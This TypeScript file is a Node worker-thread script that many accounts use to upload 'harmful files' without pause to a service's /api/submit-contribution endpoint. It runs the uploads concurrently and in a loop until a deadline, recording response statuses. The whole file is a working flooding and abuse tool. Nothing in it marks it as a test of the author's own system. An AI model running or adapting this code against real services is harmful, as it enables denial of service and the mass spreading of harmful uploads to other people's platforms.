/** A thread in which many accounts send harmful files without pause. */
import { isMainThread, parentPort, workerData } from "node:worker_threads";

export interface Sender {
  url: string;
  collectionId: string;
  headers: Record<string, string>;
}

export interface AttackFile {
  name: string;
  data: Uint8Array<ArrayBuffer>;
}

export interface AttackWork {
  senders: readonly Sender[];
  files: readonly AttackFile[];
  /** Requests without an answer at this time, in milliseconds since 1970, are given up. */
  until: number;
}

export async function sendFile(
  { url, collectionId, headers }: Sender,
  name: string,
  file: Blob,
  signal?: AbortSignal,
): Promise<{ status: number; id?: string }> {
  const form = new FormData();
  form.append("collectionId", collectionId);
  form.append("mediaData", "{}");
  form.append("mediaFiles", file, name);
  const options = { method: "POST", headers, body: form, ...(signal && { signal }) };
  const answer = await fetch(`${url}/api/submit-contribution`, options);
  const { contributionId } = (await answer.json()) as { contributionId?: string };
  return { status: answer.status, ...(contributionId && { id: contributionId }) };
}

async function attack({ senders, files, until }: AttackWork): Promise<number[]> {
  const statuses: number[] = [];
  const signal = AbortSignal.timeout(until - Date.now());
  await Promise.all(
    senders.map(async (sender, first) => {
      for (let n = first; !signal.aborted; n += 1) {
        const { name = "", data = new Uint8Array() } = files[n % files.length] ?? {};
        const answer = await sendFile(sender, name, new Blob([data]), signal).catch((error: unknown) => {
          if (!signal.aborted) throw error;
        });
        if (answer) statuses.push(answer.status);
      }
    }),
  );
  return statuses;
}

if (!isMainThread) parentPort?.postMessage(await attack(workerData as AttackWork));
